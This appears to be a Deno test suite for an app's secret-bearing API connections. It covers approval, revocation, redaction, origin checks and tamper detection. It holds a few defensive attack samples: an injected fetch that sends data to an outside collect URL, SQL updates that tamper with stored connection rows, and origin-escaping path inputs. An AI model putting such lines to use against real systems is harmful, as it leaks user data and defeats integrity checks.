import { deepEqual, equal, match, ok } from "node:assert/strict";
import type { BlockId } from "../../domain/ids.ts";
import { Secret } from "../../domain/secret.ts";
import {
  CANARY,
  KEYED_BLOCK,
  KEYED_ORIGIN,
  keyedForm,
  keyedManifest,
  keyedSite,
} from "../../testing/keyed_site.ts";
import type { TestProgram } from "../../testing/start_program.ts";
import { expectState, givenReadyBlock, withProgram } from "../../testing/with_program.ts";
import type { ConnectionForm } from "./types.ts";

const withKeys = (work: (program: TestProgram) => Promise<void>) => withProgram(work, { sites: [keyedSite] });

async function givenConnection({ app }: TestProgram, change: Partial<ConnectionForm> = {}) {
  const saved = await app.createConnection(keyedForm(change));
  ok(saved.kind === "saved", JSON.stringify(saved));
  return saved.id;
}

/** A block by hand that names the connection; waits for a yes. */
async function givenWaiting(
  program: TestProgram,
  manifest = keyedManifest(),
  code = KEYED_BLOCK,
): Promise<BlockId> {
  const id = await givenReadyBlock(program, "Countdown to 24 December 2030");
  const saved = await program.app.saveCode(id, { backend: code.backend, view: code.view, manifest });
  equal(saved.kind, "draft", JSON.stringify(saved));
  return id;
}

function authorizations({ internet }: TestProgram): string[] {
  return internet.seen.filter(({ url }) => url.includes("keys.example")).map(({ headers }) =>
    headers["authorization"] ?? ""
  );
}

Deno.test("a block by hand reads with a connection after one yes, and never shows the secret", () =>
  withKeys(async (program) => {
    const { app } = program;
    const connection = await givenConnection(program);
    const id = await givenWaiting(program);
    deepEqual(authorizations(program), [], "nothing is sent before the yes");
    const waiting = await app.findWaitingDraft(id);
    deepEqual([waiting?.connections[0]?.stored?.id, waiting?.connections[0]?.isApproved], [
      connection,
      false,
    ]);
    deepEqual(waiting?.reach, ["api.keys.example"]);

    await app.approveConnections(id, { connections: [connection], hosts: [] });
    const card = await app.getCard(id);
    expectState(card, "fresh");
    deepEqual(authorizations(program), [`Bearer ${CANARY}`]);
    match(JSON.stringify(card.content?.tree), /17/);
    ok(!JSON.stringify(await app.listData(id)).includes(CANARY.slice(0, 12)));
    deepEqual((await app.listConnections())[0]?.blocks, [{ id, title: card.title, isApproved: true }]);
    equal((await app.getConnection(connection)).state.kind, "good");
  }));

Deno.test("revoking a connection stops the block, keeps its data, and a new one of the name is asked about", () =>
  withKeys(async (program) => {
    const { app, clock } = program;
    const connection = await givenConnection(program);
    const id = await givenWaiting(program);
    await app.approveConnections(id, { connections: [connection], hosts: [] });
    await app.revokeConnection(connection);
    const needed = expectState(await app.getCard(id), "needs_you").need;
    ok(needed.kind === "connection");
    deepEqual([needed.name, needed.origin, needed.used], ["KEYS", KEYED_ORIGIN, null]);
    ok((await app.getCard(id)).content !== null);
    clock.now += 3_600_000;
    await app.refreshBlock(id, "person");
    equal(authorizations(program).length, 1, "no request with a secret that is gone");

    const again = await givenConnection(program);
    const asked = expectState(await app.getCard(id), "needs_you").need;
    ok(asked.kind === "connections");
    deepEqual(asked.connections.map((each) => each.id), [again]);
    clock.now += 3_600_000;
    await app.refreshBlock(id, "person");
    equal(authorizations(program).length, 1, "the name alone is no approval");
  }));

Deno.test("changing where a secret goes asks for the secret, and for every block's yes anew", () =>
  withKeys(async (program) => {
    const { app } = program;
    const connection = await givenConnection(program);
    const id = await givenWaiting(program);
    await app.approveConnections(id, { connections: [connection], hosts: [] });
    const moved = { origin: "https://other.keys.example" };
    const empty = { secret: new Secret("") };
    const refused = await app.changeConnection(connection, keyedForm({ ...moved, ...empty }));
    ok(refused.kind === "invalid" && refused.errors["secret"] !== undefined, JSON.stringify(refused));
    expectState(await app.getCard(id), "fresh");

    equal(
      (await app.changeConnection(connection, keyedForm({ ...empty, methods: ["GET", "POST"] }))).kind,
      "saved",
    );
    expectState(await app.getCard(id), "fresh");

    equal((await app.changeConnection(connection, keyedForm(moved))).kind, "saved");
    expectState(await app.getCard(id), "needs_you");
  }));

Deno.test("a certificate that is trusted later keeps the stored secret readable", () =>
  withKeys(async (program) => {
    const { app } = program;
    const connection = await givenConnection(program);
    const change = { secret: new Secret(""), certificateSha256: "AB:".repeat(31) + "AB" };
    equal((await app.changeConnection(connection, keyedForm(change))).kind, "saved");
    equal((await app.getConnection(connection)).certificateSha256, "ab".repeat(32));
    const undone = { secret: new Secret("") };
    equal((await app.changeConnection(connection, keyedForm(undone))).kind, "saved");
    const test = await app.testConnection(connection, "/pulls");
    ok(test.kind === "answered" && test.status === 200, JSON.stringify(test));
  }));

Deno.test("a row that was changed behind our back opens nothing (attack 149)", () =>
  withKeys(async (program) => {
    const { app, db, clock } = program;
    const connection = await givenConnection(program);
    const other = await givenConnection(program, { name: "OTHER", origin: "https://other.keys.example" });
    const id = await givenWaiting(program);
    await app.approveConnections(id, { connections: [connection], hosts: [] });
    const before = authorizations(program).length;
    const [one, two] = (await db.execute("SELECT id, sealed, origin FROM connections ORDER BY name")).rows;
    const breaks = [
      [
        `UPDATE connections SET sealed = '${two?.["sealed"]}' WHERE id = '${connection}'`,
        "swapped ciphertexts",
      ],
      [
        `UPDATE connections SET origin = 'https://other.keys.example' WHERE id = '${connection}'`,
        "another origin",
      ],
      [
        `UPDATE connections SET certificate_sha256 = '${"ab".repeat(32)}' WHERE id = '${connection}'`,
        "a pin",
      ],
      [
        `UPDATE connections SET auth = '{"kind":"client_credentials","tokenUrl":"https://other.keys.example/t","clientId":"x","scope":"","clientAuth":"basic"}' WHERE id = '${connection}'`,
        "a token address",
      ],
    ] as const;
    for (const [sql, what] of breaks) {
      await db.execute(sql);
      clock.now += 3_600_000;
      await app.refreshBlock(id, "person");
      match((await app.listRuns(id))[0]?.error?.message ?? "", /cannot be opened/, what);
      ok((await app.getCard(id)).content !== null, "what it showed stays");
      match(JSON.stringify((await app.getConnection(connection)).state), /type it in again/);
      equal(authorizations(program).length, before, what);
      await db.execute(
        'UPDATE connections SET sealed = ?, origin = ?, certificate_sha256 = NULL, auth = \'{"kind":"bearer"}\' WHERE id = ?',
        [String(one?.["sealed"]), String(one?.["origin"]), connection],
      );
    }
    clock.now += 3_600_000;
    await app.refreshBlock(id, "person");
    expectState(await app.getCard(id), "fresh");
    ok(other !== connection);
  }));

Deno.test("a connection is no yes for other hosts: one dialog names both", () =>
  withKeys(async (program) => {
    const { app } = program;
    const connection = await givenConnection(program);
    const code = KEYED_BLOCK.backend.replace(
      "return await response.json();",
      `const raw = await response.json(); await fetch("https://data.example/collect?pulls=" + raw.pulls); return raw;`,
    );
    const id = await givenWaiting(program, keyedManifest(), { ...KEYED_BLOCK, backend: code });
    deepEqual((await app.findWaitingDraft(id))?.reach, ["api.keys.example", "data.example"]);
    await app.approveConnections(id, { connections: [connection], hosts: [] });
    ok(await app.findWaitingDraft(id) !== undefined, "the host alone still waits");
    ok(!program.internet.seen.some(({ url }) => url.includes("collect")));
  }));

Deno.test("only what is named and approved is opened", () =>
  withKeys(async (program) => {
    const { app } = program;
    const connection = await givenConnection(program);
    const id = await givenWaiting(program);
    await app.approveConnections(id, { connections: [connection], hosts: [] });
    const version = (await app.getCard(id)).version;
    const unnamed = await app.saveCode(id, {
      ...KEYED_BLOCK,
      manifest: keyedManifest({ connections: [], hosts: ["api.keys.example"] }),
    });
    ok(unnamed.kind === "draft", JSON.stringify(unnamed));
    equal((await app.getCard(id)).version, version);
    equal(authorizations(program).length, 1, "approved, but this version does not name it");
  }));

Deno.test("a source that wants a sign-in makes the card ask for a connection", () =>
  withKeys(async (program) => {
    const { app, internet, clock } = program;
    const id = await givenReadyBlock(program, "EUR/USD for the last 30 days");
    internet.setFault("api.frankfurter.dev", { kind: "status", status: 401 });
    clock.now += 3_600_000;
    const { need } = expectState(await app.refreshBlock(id, "person"), "needs_you");
    deepEqual(need, {
      ...{ kind: "connection", name: null, host: "api.frankfurter.dev", status: 401, used: null },
      origin: "https://api.frankfurter.dev",
    });
  }));

Deno.test("a secret that is not accepted leads to its connection", () =>
  withKeys(async (program) => {
    const { app, clock } = program;
    const connection = await givenConnection(program);
    const id = await givenWaiting(program);
    await app.approveConnections(id, { connections: [connection], hosts: [] });
    await app.replaceSecret(connection, {
      secret: new Secret("ghp_wrong_key"),
      refreshToken: new Secret(""),
    });
    clock.now += 3_600_000;
    const { need } = expectState(await app.refreshBlock(id, "person"), "needs_you");
    ok(need.kind === "connection" && need.used?.id === connection, JSON.stringify(need));
    deepEqual((await app.getConnection(connection)).state, { kind: "refused", status: 401 });
  }));

Deno.test("use of a connection is written at most once a minute", () =>
  withKeys(async (program) => {
    const { app, clock } = program;
    const connection = await givenConnection(program);
    const id = await givenWaiting(program);
    await app.approveConnections(id, { connections: [connection], hosts: [] });
    const first = (await app.getConnection(connection)).lastUsedAt;
    clock.now += 30_000;
    await app.refreshBlock(id, "person");
    equal((await app.getConnection(connection)).lastUsedAt, first);
    clock.now += 30_000;
    await app.refreshBlock(id, "person");
    equal((await app.getConnection(connection)).lastUsedAt, clock.now);
  }));

Deno.test("testConnection() stays at its origin and shows no secret", () =>
  withKeys(async (program) => {
    const { app } = program;
    const connection = await givenConnection(program);
    const good = await app.testConnection(connection, "/anything?x=1");
    ok(good.kind === "answered");
    match(good.excerpt, /"pulls":17/);
    ok(!good.excerpt.includes(CANARY) && !good.excerpt.includes(btoa(`Bearer ${CANARY}`).slice(4, 20)));
    const before = authorizations(program).length;
    for (
      const path of [
        "https://other.keys.example/",
        "//other.keys.example/x",
        "\\\\other.keys.example",
        "x",
        "/\\evil",
      ]
    ) {
      const test = await app.testConnection(connection, path);
      equal(test.kind === "failed" || !JSON.stringify(test).includes("17"), true, path);
    }
    equal(authorizations(program).slice(before).every((given) => given === ""), true, KEYED_ORIGIN);
  }));
